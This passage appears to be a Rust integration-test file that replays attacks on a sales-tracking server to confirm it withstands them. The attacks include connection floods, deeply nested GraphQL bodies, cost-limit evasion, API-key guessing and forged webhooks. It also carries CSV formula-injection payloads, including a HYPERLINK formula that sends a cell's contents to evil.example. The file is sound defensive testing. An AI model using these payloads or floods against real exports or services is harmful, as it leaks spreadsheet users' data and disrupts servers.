//! Hostile requests, round 2: each test here reproduces an attack that took the
//! server down or around a limit, and shows it no longer does.

use std::net::{IpAddr, SocketAddr};
use std::time::{Duration, Instant};

use serde_json::json;
use tokio::io::AsyncReadExt;

use crate::common::TestApp;

/// `serve` on a real socket with `options`, stopped when the returned sender drops.
async fn serve(app: &TestApp, options: sales_tracking::http::server::ServeOptions) -> (SocketAddr, impl Drop) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    tokio::spawn(sales_tracking::http::server::serve(
        listener,
        app.router.clone(),
        options,
        async {
            let _ = stopped.await;
        },
    ));
    (address, StopOnDrop(Some(stop)))
}

struct StopOnDrop(Option<tokio::sync::oneshot::Sender<()>>);

impl Drop for StopOnDrop {
    fn drop(&mut self) {
        if let Some(stop) = self.0.take() {
            let _ = stop.send(());
        }
    }
}

/// A connection to `server` from the loopback address `from` (127.0.0.x).
async fn connect_from(from: IpAddr, server: SocketAddr) -> std::io::Result<tokio::net::TcpStream> {
    let socket = tokio::net::TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(from, 0))?;
    socket.connect(server).await
}

/// A burst of shoppers opening connections at once (a post going viral, a balancer
/// opening its pool) is held by the kernel until the server accepts it: with the
/// usual backlog of 128, the handshakes beyond it were dropped, and each of those
/// shoppers waited a second for a retry.
#[tokio::test]
async fn a_burst_of_connections_waits_for_the_accept_loop_instead_of_being_dropped() {
    let listener = sales_tracking::http::server::listen("127.0.0.1:0".parse().unwrap()).unwrap();
    let address = listener.local_addr().unwrap();
    // Nothing accepts: every connection must be completed and held by the kernel.
    let burst: Vec<_> = (0..300)
        .map(|_| {
            tokio::spawn(tokio::time::timeout(
                Duration::from_millis(700),
                tokio::net::TcpStream::connect(address),
            ))
        })
        .collect();
    let mut held = 0;
    for connection in burst {
        if matches!(connection.await.unwrap(), Ok(Ok(_))) {
            held += 1;
        }
    }
    assert_eq!(held, 300, "connections completed without an accept");
    drop(listener);
}

/// 1,100 connections from one address that never send a byte: each is closed
/// within the header deadline or refused at once, and a client at another address
/// keeps getting redirects and GraphQL answers all along.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn silent_connections_from_one_address_cannot_starve_others() {
    let app = TestApp::new().await;
    let shop = crate::tracking::shop(&app).await;
    let deadline = Duration::from_secs(6);
    let (server, _stop) = serve(
        &app,
        sales_tracking::http::server::ServeOptions {
            header_read_timeout: deadline,
            ..Default::default()
        },
    )
    .await;

    let attacker: IpAddr = "127.0.0.1".parse().unwrap();
    let opened = Instant::now();
    let mut silent = Vec::new();
    for _ in 0..1_100 {
        // The kernel completes the handshake from its backlog even for connections
        // the server closes at once; a refused connect is fine too.
        if let Ok(stream) = connect_from(attacker, server).await {
            silent.push(stream);
        }
    }

    let client = reqwest::Client::builder()
        .local_address("127.0.0.2".parse::<IpAddr>().unwrap())
        .redirect(reqwest::redirect::Policy::none())
        .timeout(Duration::from_millis(2_500))
        .build()
        .unwrap();
    let base = format!("http://{server}");
    // Before the silent ones time out: only the per-address cap leaves room for others.
    let mut answered = 0;
    while opened.elapsed() < deadline - Duration::from_secs(3) {
        let redirect = client
            .get(format!("{base}/r/{}", shop.link_code))
            .send()
            .await
            .expect("a redirect answered while one address holds silent connections");
        assert_eq!(redirect.status().as_u16(), 302);
        let query = client
            .post(format!("{base}/graphql"))
            .bearer_auth(&shop.brand.analyst)
            .json(&json!({ "query": "{ kpis { clicks } }" }))
            .send()
            .await
            .expect("a query answered while one address holds silent connections");
        assert_eq!(query.status().as_u16(), 200);
        answered += 1;
    }
    assert!(answered >= 3, "only {answered} rounds answered");
    tokio::time::sleep((deadline + Duration::from_secs(1)).saturating_sub(opened.elapsed())).await;

    // Every silent connection has been closed by now (read gives end of file or a reset).
    let mut still_open = 0;
    for stream in &mut silent {
        let mut byte = [0u8; 1];
        if let Err(_) | Ok(Ok(1..)) = tokio::time::timeout(Duration::from_millis(50), stream.read(&mut byte)).await {
            still_open += 1;
        }
    }
    assert_eq!(still_open, 0, "silent connections left open past the header deadline");
}

/// A `sales-tracking serve` process on the test's database, with a spool
/// directory of its own.
pub struct ServerProcess {
    pub process: tokio::process::Child,
    pub base: String,
    pub spool: tempfile::TempDir,
}

impl ServerProcess {
    pub async fn start(app: &TestApp, args: &[&str]) -> Self {
        let port = crate::common::free_port();
        let spool = tempfile::tempdir().unwrap();
        let process = Self::command(app, port, spool.path()).args(args).spawn().unwrap();
        let address = format!("127.0.0.1:{port}");
        crate::common::until_listening(&address).await;
        ServerProcess {
            process,
            base: format!("http://{address}"),
            spool,
        }
    }

    /// `sales-tracking serve` on `port` with the test's database and `spool`.
    fn command(app: &TestApp, port: u16, spool: &std::path::Path) -> tokio::process::Command {
        let mut command = tokio::process::Command::new(env!("CARGO_BIN_EXE_sales-tracking"));
        command
            .env("FX_RATES_URL", "none")
            .args(["serve", "--bind", &format!("127.0.0.1:{port}")])
            .arg("--spool-dir")
            .arg(spool)
            .env("DATABASE_URL", app.db.url())
            .env("RUST_LOG", "warn")
            .stdout(std::process::Stdio::null())
            .kill_on_drop(true);
        command
    }

    /// Still running, and answering a plain query.
    async fn assert_alive(&mut self, after: &str) {
        let answer = reqwest::Client::new()
            .post(format!("{}/graphql", self.base))
            .json(&json!({ "query": "{ __typename }" }))
            .send()
            .await;
        let exited = self.process.try_wait().unwrap();
        assert!(exited.is_none(), "the server exited after {after}: {exited:?}");
        let answer = answer.unwrap_or_else(|e| panic!("no answer after {after}: {e}"));
        assert_eq!(answer.status().as_u16(), 200, "after {after}");
    }
}

/// A server starting hands every journal segment in its spool directory to
/// its replay, as a stopped server's: a second server on a running one's
/// directory would take that server's journal. It refuses to start instead,
/// saying why, and the first serves on.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_second_server_on_a_running_servers_spool_directory_refuses_to_start() {
    let app = TestApp::new().await;
    let mut first = ServerProcess::start(&app, &[]).await;
    let second = ServerProcess::command(&app, crate::common::free_port(), first.spool.path()).output();
    let second = tokio::time::timeout(Duration::from_secs(60), second)
        .await
        .expect("the second server stopped by itself")
        .unwrap();
    assert!(!second.status.success());
    let said = String::from_utf8_lossy(&second.stderr);
    assert!(
        said.contains("another server is using it; give each server its own --spool-dir"),
        "{said}"
    );
    assert!(said.contains(&first.spool.path().display().to_string()), "{said}");
    first.assert_alive("a second server tried its spool directory").await;

    // Once the first has stopped, the directory is free for the next.
    first.process.kill().await.unwrap();
    first.process.wait().await.unwrap();
    let port = crate::common::free_port();
    let _next = ServerProcess::command(&app, port, first.spool.path()).spawn().unwrap();
    crate::common::until_listening(&format!("127.0.0.1:{port}")).await;
}

fn url_encoded(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

/// A GET over a plain socket (HTTP clients refuse URLs this long): the status and the body.
async fn raw_get(base: &str, path_and_query: &str) -> (u16, String) {
    use tokio::io::AsyncWriteExt;
    let mut stream = tokio::net::TcpStream::connect(base.trim_start_matches("http://"))
        .await
        .unwrap();
    let request = format!("GET {path_and_query} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
    // The server may answer and close before it has read a very long request line.
    let _ = stream.write_all(request.as_bytes()).await;
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(10), stream.read_to_end(&mut answer)).await;
    let answer = String::from_utf8_lossy(&answer).into_owned();
    let status = answer.get(9..12).and_then(|s| s.parse().ok()).unwrap_or(0);
    let body = answer
        .split_once("\r\n\r\n")
        .map(|(_, b)| b.to_string())
        .unwrap_or_default();
    (status, body)
}

/// `{a:{a:…1…}}` or `[[…1…]]`, `depth` levels deep.
fn nested_value(depth: usize, lists: bool) -> String {
    if lists {
        format!("{}1{}", "[".repeat(depth), "]".repeat(depth))
    } else {
        format!("{}1{}", "{a:".repeat(depth), "}".repeat(depth))
    }
}

/// The first error's code and `extensions.limit`.
fn code_and_limit(body: &serde_json::Value) -> (String, String) {
    let error = &body["errors"][0]["extensions"];
    (
        error["code"].as_str().unwrap_or_default().to_string(),
        error["limit"].as_str().unwrap_or_default().to_string(),
    )
}

/// Arguments, variables and webhook bodies nested 1,500 and 100,000 deep, over
/// POST and GET, as input objects and as lists: each is refused with a 4xx (the
/// nesting limit where the body fits its size limit), and the server answers on.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deep_nesting_anywhere_is_refused_and_the_server_lives() {
    let app = TestApp::new().await;
    let shop = crate::tracking::shop(&app).await;
    let mut server = ServerProcess::start(&app, &[]).await;
    let client = reqwest::Client::new();
    for depth in [1_500, 100_000] {
        for lists in [false, true] {
            let what = format!("depth {depth}, lists {lists}");
            let query = format!("{{ __typename(x: {}) }}", nested_value(depth, lists));
            let posted = client
                .post(format!("{}/graphql", server.base))
                .json(&json!({ "query": query }))
                .send()
                .await
                .unwrap();
            let status = posted.status().as_u16();
            let fits = query.len() < 256 * 1024;
            let body: serde_json::Value = posted.json().await.unwrap();
            if fits {
                assert_eq!(status, 400, "POST {what}: {body}");
                assert_eq!(
                    code_and_limit(&body),
                    ("BAD_USER_INPUT".into(), "MAX_NESTING".into()),
                    "POST {what}"
                );
            } else {
                assert_eq!(status, 413, "POST {what}: {body}");
            }
            server.assert_alive(&format!("POST {what}")).await;

            let (status, body) = raw_get(&server.base, &format!("/graphql?query={}", url_encoded(&query))).await;
            assert!((400..500).contains(&status), "GET {what}: {status}");
            if depth == 1_500 {
                let body: serde_json::Value = serde_json::from_str(&body).unwrap();
                assert_eq!(
                    code_and_limit(&body),
                    ("BAD_USER_INPUT".into(), "MAX_NESTING".into()),
                    "GET {what}"
                );
            }
            server.assert_alive(&format!("GET {what}")).await;

            // The same depth in the variables, as JSON.
            let variables = nested_value(depth, true);
            let body = format!(r#"{{"query":"query($x: String) {{ __typename }}","variables":{{"x":{variables}}}}}"#);
            let posted = client
                .post(format!("{}/graphql", server.base))
                .header("content-type", "application/json")
                .body(body.clone())
                .send()
                .await
                .unwrap();
            assert!((400..500).contains(&posted.status().as_u16()), "variables {what}");
            server.assert_alive(&format!("variables {what}")).await;

            // And as an order webhook's body, signed or not.
            let webhook = client
                .post(format!("{}/webhooks/{}/orders/shop", server.base, shop.brand.slug))
                .header(
                    "x-shopify-hmac-sha256",
                    crate::tracking::sign(&body, crate::tracking::SECRET),
                )
                .body(body)
                .send()
                .await
                .unwrap();
            assert!((400..500).contains(&webhook.status().as_u16()), "webhook {what}");
            server.assert_alive(&format!("webhook {what}")).await;
        }
    }
}

/// `operationName` picks the operation over GET as over POST.
#[tokio::test]
async fn get_honours_the_operation_name() {
    let app = TestApp::new().await;
    let document = "query A { __typename } query B { viewer { role } }";
    let uri = format!("/graphql?query={}&operationName=A", url_encoded(document));
    let (status, body) = app.get(&uri).await;
    assert_eq!(status.as_u16(), 200, "{body}");
    let body: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(body["data"], json!({ "__typename": "Query" }), "{body}");
}

/// The cost extension's requested and actual figures.
fn costs(body: &serde_json::Value) -> (u64, u64) {
    let cost = &body["extensions"]["cost"];
    (
        cost["requestedQueryCost"]
            .as_u64()
            .unwrap_or_else(|| panic!("no cost: {body}")),
        cost["actualQueryCost"].as_u64().unwrap_or_default(),
    )
}

/// The same selection costs the same through `offers`, `offer`, `node` and
/// `nodes`: `nodes` is charged per id given, fragments on a type are priced
/// with that type's fields, and what comes back is what is refunded against.
#[tokio::test]
async fn cost_is_the_same_whatever_the_entry_point() {
    let app = TestApp::new().await;
    let shop = crate::tracking::shop(&app).await;
    for _ in 0..3 {
        crate::tracking::click(&app, &shop.link_code, "Mozilla/5.0").await;
    }
    let key = &shop.brand.analyst;
    let offer_ids = [shop.link_offer.clone(), shop.code_offer.clone()];
    let selection = "id memberships(first: 5) { nodes { id kpis { clicks } clicks(first: 5) { nodes { id } } } }";

    let through_offers = format!("{{ offers(first: 2) {{ nodes {{ {selection} }} }} }}");
    let (_, listed) = app.graphql(Some(key), &through_offers, json!({})).await;
    assert!(listed["errors"].is_null(), "{listed}");
    let through_nodes = format!("query($ids: [ID!]!) {{ nodes(ids: $ids) {{ ... on Offer {{ {selection} }} }} }}");
    let (_, found) = app
        .graphql(Some(key), &through_nodes, json!({ "ids": offer_ids }))
        .await;
    assert!(found["errors"].is_null(), "{found}");
    let (listed_requested, listed_actual) = costs(&listed);
    let (found_requested, found_actual) = costs(&found);
    // `offers` pays one more for its connection object.
    assert_eq!(found_requested + 1, listed_requested, "requested: {listed} {found}");
    assert_eq!(found_actual + 1, listed_actual, "actual: {listed} {found}");
    assert!(found_actual > 10, "the rows returned are charged: {found}");

    // A fragment spread prices the same as an inline one.
    let spread = format!("query($ids: [ID!]!) {{ nodes(ids: $ids) {{ ...O }} }} fragment O on Offer {{ {selection} }}");
    let (_, spread) = app.graphql(Some(key), &spread, json!({ "ids": offer_ids })).await;
    assert_eq!(costs(&spread), (found_requested, found_actual), "{spread}");

    // The attack: 100 ids, each with 100 memberships of 100 clicks, is refused like
    // the same selection through `offers`.
    let huge = "{ memberships(first: 100) { nodes { kpis { clicks } clicks(first: 100) { nodes { id } } } } }";
    let ids: Vec<String> = (1..=100).map(|n| format!("offer_{n}")).collect();
    let (_, body) = app
        .graphql(
            Some(key),
            &format!("query($ids: [ID!]!) {{ nodes(ids: $ids) {{ ... on Offer {huge} }} }}"),
            json!({ "ids": ids }),
        )
        .await;
    assert_eq!(
        code_and_limit(&body),
        ("BAD_USER_INPUT".into(), "MAX_COST_EXCEEDED".into()),
        "{body}"
    );
    let (_, by_offers) = app
        .graphql(
            Some(key),
            &format!("{{ offers(first: 100) {{ nodes {huge} }} }}"),
            json!({}),
        )
        .await;
    assert_eq!(costs(&body).0 + 1, costs(&by_offers).0, "{body} {by_offers}");

    // One `node` costs what one `offer` does.
    let (_, by_node) = app
        .graphql(
            Some(key),
            &format!("query($id: ID!) {{ node(id: $id) {{ ... on Offer {huge} }} }}"),
            json!({ "id": shop.link_offer }),
        )
        .await;
    let (_, by_offer) = app
        .graphql(
            Some(key),
            &format!("query($id: ID!) {{ offer(id: $id) {huge} }}"),
            json!({ "id": shop.link_offer }),
        )
        .await;
    assert_eq!(costs(&by_node), costs(&by_offer), "{by_node} {by_offer}");
}

/// A request as if from `address` (the router reads the peer from `ConnectInfo`).
fn from(address: &str, mut request: axum::http::Request<axum::body::Body>) -> axum::http::Request<axum::body::Body> {
    let peer: SocketAddr = format!("{address}:40000").parse().unwrap();
    request.extensions_mut().insert(axum::extract::ConnectInfo(peer));
    request
}

async fn status_and_body(app: &TestApp, request: axum::http::Request<axum::body::Body>) -> (u16, serde_json::Value) {
    use http_body_util::BodyExt;
    let response = app.respond(request).await;
    let status = response.status().as_u16();
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    (status, serde_json::from_slice(&bytes).unwrap_or_default())
}

fn order_webhook(slug: &str, body: &str, signature: &str) -> axum::http::Request<axum::body::Body> {
    axum::http::Request::post(format!("/webhooks/{slug}/orders/shop"))
        .header("content-type", "application/json")
        .header("x-shopify-hmac-sha256", signature)
        .body(axum::body::Body::from(body.to_string()))
        .unwrap()
}

/// A flood of unsigned order webhooks spends neither the brand's budget nor more
/// than its address's share of failures: the brand's signed orders all land.
#[tokio::test]
async fn unsigned_webhooks_cannot_spend_a_brands_budget() {
    let app = TestApp::with_config(sales_tracking::AppConfig {
        limits: sales_tracking::Limits {
            webhook_rate_limit_per_second: 20,
            failed_auth_per_second: 2,
            ..Default::default()
        },
        ..Default::default()
    })
    .await;
    let shop = crate::tracking::shop(&app).await;
    let order =
        |n: usize| json!({ "event": "order.created", "order_id": format!("R-{n}"), "amount": "5.00" }).to_string();
    let mut refusals = std::collections::BTreeMap::new();
    for n in 0..100 {
        let forged = order_webhook(&shop.brand.slug, &order(n), "bm90IGEgc2lnbmF0dXJl");
        let (status, _) = status_and_body(&app, from("203.0.113.9", forged)).await;
        *refusals.entry(status).or_insert(0) += 1;
    }
    // Twenty failures at once per address, then refused before any lookup.
    assert_eq!(refusals, [(401, 20), (429, 80)].into(), "{refusals:?}");
    for n in 100..115 {
        let body = order(n);
        let signed = order_webhook(
            &shop.brand.slug,
            &body,
            &crate::tracking::sign(&body, crate::tracking::SECRET),
        );
        let (status, answer) = status_and_body(&app, from("198.51.100.7", signed)).await;
        assert_eq!(status, 200, "a signed order was refused after the flood: {answer}");
    }
}

/// Bad API keys are limited per address, before their lookup: after its share one
/// address gets 429 while another's good key still works.
#[tokio::test]
async fn bad_api_keys_are_limited_per_address() {
    let app = TestApp::with_config(sales_tracking::AppConfig {
        limits: sales_tracking::Limits {
            failed_auth_per_second: 2,
            ..Default::default()
        },
        ..Default::default()
    })
    .await;
    let brand = app.brand("Acme").await;
    let query = |key: &str| {
        axum::http::Request::post("/graphql")
            .header("content-type", "application/json")
            .header("authorization", format!("Bearer {key}"))
            .body(axum::body::Body::from(
                json!({ "query": "{ viewer { role } }" }).to_string(),
            ))
            .unwrap()
    };
    let mut refusals = std::collections::BTreeMap::new();
    for n in 0..60 {
        let (status, body) = status_and_body(&app, from("203.0.113.9", query(&format!("stk_guess{n}")))).await;
        if status == 429 {
            assert_eq!(body["errors"][0]["extensions"]["code"], "THROTTLED", "{body}");
        }
        *refusals.entry(status).or_insert(0) += 1;
    }
    assert_eq!(refusals, [(401, 20), (429, 40)].into(), "{refusals:?}");
    // Exports check keys the same way, from the same budget.
    let export = axum::http::Request::get("/export/offers.csv")
        .header("authorization", "Bearer stk_guess")
        .body(axum::body::Body::empty())
        .unwrap();
    assert_eq!(status_and_body(&app, from("203.0.113.9", export)).await.0, 429);
    // Good keys from anywhere else, many times over, are never limited.
    for _ in 0..40 {
        let (status, body) = status_and_body(&app, from("198.51.100.7", query(&brand.analyst))).await;
        assert_eq!(status, 200, "{body}");
    }
}

/// The address that reached the payout file's first cell, and one in fullwidth.
const FORMULA_EMAILS: [&str; 3] = [
    "=HYPERLINK(\"http://evil.example/\"&B1,\"Click\")&\"@x.y\"",
    "\u{FF1D}1+1@x.example",
    "+cmd@x.example",
];

/// Addresses that start like a formula are refused at input; every export cell a
/// spreadsheet could run (fullwidth signs too) gets a `'`, in the payout file
/// also for an address stored before this check.
#[tokio::test]
async fn every_export_cell_is_formula_safe() {
    use crate::payments::{SEND, csv_rows, due_orders, no_hold};
    let app = TestApp::new().await;
    let shop = crate::tracking::shop(&app).await;
    for email in FORMULA_EMAILS {
        let code = app
            .error_code(
                Some(&shop.brand.admin),
                "mutation($i: CreateMemberInput!) { createMember(input: $i) { member { id } } }",
                json!({ "i": { "name": "Eve", "email": email } }),
            )
            .await;
        assert_eq!(code, "BAD_USER_INPUT", "{email}");
        let code = app
            .error_code(
                Some(&shop.brand.admin),
                "mutation($i: CreateMemberInput!) { createMember(input: $i) { member { id } } }",
                json!({ "i": { "name": "Eve", "email": "eve@x.example", "payoutEmail": email } }),
            )
            .await;
        assert_eq!(code, "BAD_USER_INPUT", "payout {email}");
    }

    // Stored before emails were checked, and a name in fullwidth signs.
    {
        let mut conn = app.db.connect().await;
        diesel_async::SimpleAsyncConnection::batch_execute(
            &mut conn,
            &format!(
                "UPDATE members SET email = '{}', name = '\u{FF1D}SUM(A1)' WHERE brand_id = {}",
                FORMULA_EMAILS[0].replace('\'', "''"),
                shop.brand.id.0
            ),
        )
        .await
        .unwrap();
    }
    let uri = format!("/export/offers/{}/memberships.csv?columns=NAME", shop.code_offer);
    let (_, _, body) = app.get_as(&shop.brand.admin, &uri).await;
    assert_eq!(csv_rows(&body)[1], ["'\u{FF1D}SUM(A1)"], "{body}");

    no_hold(&app, &shop).await;
    due_orders(&app, &shop, &shop.promo_code, 1, &["80.00"]).await;
    let sent = app
        .ok(
            &shop.brand.admin,
            SEND,
            json!({ "i": { "scope": "MEMBERSHIPS", "membershipIds": [shop.code_membership], "idempotencyKey": "k" } }),
        )
        .await;
    let url = sent["sendPayment"]["payment"]["payoutFileUrl"]
        .as_str()
        .unwrap()
        .to_string();
    let (_, _, body) = app.get_as(&shop.brand.admin, &url).await;
    let rows = csv_rows(&body);
    assert_eq!(rows[0][0], format!("'{}", FORMULA_EMAILS[0]), "{body}");
    for cell in rows.iter().flatten() {
        assert!(
            !sales_tracking::domain::validate::starts_like_a_formula(cell),
            "a cell a spreadsheet would run: {cell}"
        );
    }
    // The orders export names the member too, inert like every other cell.
    let (_, _, body) = app.get_as(&shop.brand.admin, "/export/orders.csv").await;
    let rows = csv_rows(&body);
    assert!(rows.iter().any(|row| row[4] == "'\u{FF1D}SUM(A1)"), "{body}");
    for cell in rows.iter().flatten() {
        assert!(
            !sales_tracking::domain::validate::starts_like_a_formula(cell),
            "a cell a spreadsheet would run: {cell}"
        );
    }
}

/// Text with NUL or other control characters, and amounts past what the ledger
/// holds, are refused as bad input, never an internal error; and one member
/// owed more than a payment can carry is left out with a reason while everyone
/// else is paid.
#[tokio::test]
async fn bad_text_and_money_are_bad_input_and_one_member_cannot_block_payments() {
    use crate::payments::{SEND, due_orders, no_hold};
    let app = TestApp::new().await;
    let shop = crate::tracking::shop(&app).await;
    let admin = &shop.brand.admin;
    for (query, variables) in [
        (
            "mutation($i: CreateMemberInput!) { createMember(input: $i) { member { id } } }",
            json!({ "i": { "name": "Ana\u{0}", "email": "ana.nul@example.com" } }),
        ),
        (
            "mutation($i: UpdateOfferInput!) { updateOffer(input: $i) { offer { id } } }",
            json!({ "i": { "id": shop.link_offer, "name": "Shoes\u{0}" } }),
        ),
        (
            "query($s: String) { members(search: $s) { totalCount } }",
            json!({ "s": "\u{0}" }),
        ),
        ("{ members(search: \"a\\u0000\") { totalCount } }", json!({})),
        (
            "mutation($i: CreateProjectInput!) { createProject(input: $i) { project { id } } }",
            json!({ "i": { "name": "Line\u{1b}[31m" } }),
        ),
    ] {
        let (_, body) = app.graphql(Some(admin), query, variables).await;
        assert_eq!(
            body["errors"][0]["extensions"]["code"], "BAD_USER_INPUT",
            "{query}: {body}"
        );
    }

    const GRANT: &str = "mutation($i: GrantRewardInput!) { grantReward(input: $i) { reward { id } } }";
    let bonus = |amount: &str, key: &str| {
        json!({ "i": { "membershipId": shop.link_membership, "idempotencyKey": key,
                       "reward": { "kind": "CASH_BONUS", "cashAmount": amount } } })
    };
    let (_, body) = app.graphql(Some(admin), GRANT, bonus("999999999999.99", "huge")).await;
    assert_eq!(body["errors"][0]["extensions"]["code"], "BAD_USER_INPUT", "{body}");
    // Money reads three decimals (an order in dinars); an amount in the brand's
    // currency with a third is refused, never rounded by the database.
    let (_, body) = app.graphql(Some(admin), GRANT, bonus("5.005", "fils")).await;
    assert_eq!(body["errors"][0]["extensions"]["code"], "BAD_USER_INPUT", "{body}");
    const REFUND: &str = "mutation($i: RefundConversionInput!) { refundConversion(input: $i) { conversion { id } } }";
    let refund = json!({ "i": { "id": "conversion_1", "amount": "1.005", "idempotencyKey": "r" } });
    let (_, body) = app.graphql(Some(admin), REFUND, refund).await;
    assert_eq!(body["errors"][0]["extensions"]["code"], "BAD_USER_INPUT", "{body}");
    assert!(body.to_string().contains("too many decimals"), "{body}");

    // Two bonuses as large as the ledger holds, stored before bonuses were bounded.
    for key in ["b1", "b2"] {
        app.ok(admin, GRANT, bonus("100.00", key)).await;
    }
    {
        let mut conn = app.db.connect().await;
        diesel_async::SimpleAsyncConnection::batch_execute(
            &mut conn,
            "UPDATE ledger_entries SET amount = 999999999999.99 WHERE reward_id IS NOT NULL",
        )
        .await
        .unwrap();
    }
    no_hold(&app, &shop).await;
    due_orders(&app, &shop, &shop.promo_code, 1, &["80.00"]).await;
    let sent = app
        .ok(
            admin,
            &SEND.replace("replayed", "replayed leftOut { membershipId amount reason }"),
            json!({ "i": { "scope": "ACTIVE_OFFERS", "idempotencyKey": "payday" } }),
        )
        .await;
    let payment = &sent["sendPayment"];
    let paid: Vec<&str> = payment["payment"]["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|item| item["membership"]["id"].as_str().unwrap())
        .collect();
    assert_eq!(paid, [shop.code_membership.as_str()], "{payment}");
    assert_eq!(
        payment["leftOut"][0]["membershipId"],
        shop.link_membership.as_str(),
        "{payment}"
    );
    assert_eq!(payment["leftOut"][0]["amount"], "1999999999999.98", "{payment}");
    assert!(
        payment["leftOut"][0]["reason"]
            .as_str()
            .unwrap()
            .contains("most one payment item carries"),
        "{payment}"
    );
}

/// Every mutation of the schema, each called once the way a dashboard would, leaves
/// an audit event named after it.
#[tokio::test]
async fn every_mutation_writes_an_audit_event() {
    let shopify = crate::shopify::ShopifyStandIn::start().await;
    let app = TestApp::with_config(crate::shopify::config(&shopify, &crate::shopify::secrets_key())).await;
    let shop = crate::tracking::shop(&app).await;
    let admin = shop.brand.admin.clone();
    let call = |field: &'static str, input: serde_json::Value| {
        let app = &app;
        let admin = admin.clone();
        async move {
            let input_type = format!("{}{}Input", field[..1].to_uppercase(), &field[1..]);
            let document = format!("mutation($i: {input_type}!) {{ {field}(input: $i) {{ __typename }} }}");
            app.ok(&admin, &document, json!({ "i": input })).await;
        }
    };
    let id_of = |data: serde_json::Value, path: &str| -> String {
        data.pointer(path)
            .and_then(|id| id.as_str())
            .unwrap_or_else(|| panic!("no {path} in {data}"))
            .to_string()
    };
    let create = |document: &'static str, input: serde_json::Value| {
        let app = &app;
        let admin = admin.clone();
        async move { app.ok(&admin, document, json!({ "i": input })).await }
    };

    call("updateOffer", json!({ "id": shop.code_offer, "holdPeriodDays": 0 })).await;
    call("createProject", json!({ "name": "Spring" })).await;
    let offer = id_of(
        create(
            "mutation($i: CreateOfferInput!) { createOffer(input: $i) { offer { id } } }",
            json!({ "name": "Hats", "type": "SALES_LINK", "destinationUrl": "https://shop.example.com/hats",
                    "payout": { "type": "PERCENT_OF_SALE", "percent": "10" } }),
        )
        .await,
        "/createOffer/offer/id",
    );
    call(
        "editPayout",
        json!({ "id": offer, "payout": { "type": "PERCENT_OF_SALE", "percent": "12" } }),
    )
    .await;
    call("setOfferStatus", json!({ "id": offer, "status": "PAUSED" })).await;
    let member = id_of(
        create(
            "mutation($i: CreateMemberInput!) { createMember(input: $i) { member { id } } }",
            json!({ "name": "Bea", "email": "bea@example.com" }),
        )
        .await,
        "/createMember/member/id",
    );
    call("updateMember", json!({ "id": member, "name": "Beatrix" })).await;
    let membership = id_of(
        create(
            "mutation($i: AddMembersInput!) { addMembers(input: $i) { memberships { id } } }",
            json!({ "offerId": shop.link_offer, "memberIds": [member] }),
        )
        .await,
        "/addMembers/memberships/0/id",
    );
    call(
        "setPayoutOverride",
        json!({ "membershipIds": [membership], "payout": { "type": "PERCENT_OF_SALE", "percent": "20" } }),
    )
    .await;
    call("clearPayoutOverride", json!({ "membershipIds": [membership] })).await;
    call(
        "setMembershipActive",
        json!({ "membershipIds": [membership], "active": false }),
    )
    .await;
    call(
        "emailMembers",
        json!({ "membershipIds": [shop.link_membership], "template": { "subject": "Hi", "body": "{{link}}" } }),
    )
    .await;

    let record = "mutation($i: RecordConversionInput!) { recordConversion(input: $i) { conversion { id } } }";
    let order =
        |id: &str, code: Option<&str>| json!({ "externalOrderId": id, "saleAmount": "50.00", "promoCode": code });
    let refunded = id_of(
        create(record, order("A-1", Some(&shop.promo_code))).await,
        "/recordConversion/conversion/id",
    );
    call(
        "refundConversion",
        json!({ "id": refunded, "amount": "10.00", "idempotencyKey": "r1" }),
    )
    .await;
    let rejected = id_of(
        create(record, order("A-2", Some(&shop.promo_code))).await,
        "/recordConversion/conversion/id",
    );
    call("rejectConversion", json!({ "id": rejected, "reason": "test order" })).await;
    let unattributed = id_of(
        create(record, order("U-1", None)).await,
        "/recordConversion/conversion/id",
    );
    call(
        "assignConversion",
        json!({ "conversionId": unattributed, "membershipId": shop.code_membership, "idempotencyKey": "a1" }),
    )
    .await;

    let rule = id_of(
        create(
            "mutation($i: CreateRewardRuleInput!) { createRewardRule(input: $i) { rule { id } } }",
            json!({ "offerId": shop.code_offer, "rule": { "trigger": "EVERY_N_CONVERSIONS", "everyN": 100, "reward": { "kind": "FREE_PRODUCT", "description": "Tote" } } }),
        )
        .await,
        "/createRewardRule/rule/id",
    );
    call(
        "updateRewardRule",
        json!({ "id": rule, "reward": { "kind": "FREE_PRODUCT", "description": "Bag" } }),
    )
    .await;
    call("setRewardRuleActive", json!({ "id": rule, "active": false })).await;
    let reward = id_of(
        create(
            "mutation($i: GrantRewardInput!) { grantReward(input: $i) { reward { id } } }",
            json!({ "membershipId": shop.code_membership, "idempotencyKey": "g1", "reward": { "kind": "CASH_BONUS", "cashAmount": "5.00" } }),
        )
        .await,
        "/grantReward/reward/id",
    );
    call("revokeReward", json!({ "id": reward, "reason": "granted twice" })).await;
    call(
        "sendPayment",
        json!({ "scope": "ACTIVE_OFFERS", "idempotencyKey": "p1" }),
    )
    .await;
    call("refreshPromoCodes", json!({ "membershipIds": [shop.code_membership] })).await;
    call(
        "setTableColumns",
        json!({ "table": "OFFERS", "columns": ["NAME", "CLICKS"] }),
    )
    .await;
    let key = id_of(
        create(
            "mutation($i: CreateApiKeyInput!) { createApiKey(input: $i) { apiKey { id } } }",
            json!({ "label": "ci", "role": "ANALYST" }),
        )
        .await,
        "/createApiKey/apiKey/id",
    );
    call("revokeApiKey", json!({ "id": key })).await;
    call(
        "removeMembers",
        json!({ "offerId": shop.link_offer, "memberIds": [member] }),
    )
    .await;
    let endpoint = id_of(
        create(
            "mutation($i: CreateWebhookEndpointInput!) { createWebhookEndpoint(input: $i) { webhookEndpoint { id } } }",
            json!({ "url": "https://hooks.example.com/sales", "events": ["offer.updated"] }),
        )
        .await,
        "/createWebhookEndpoint/webhookEndpoint/id",
    );
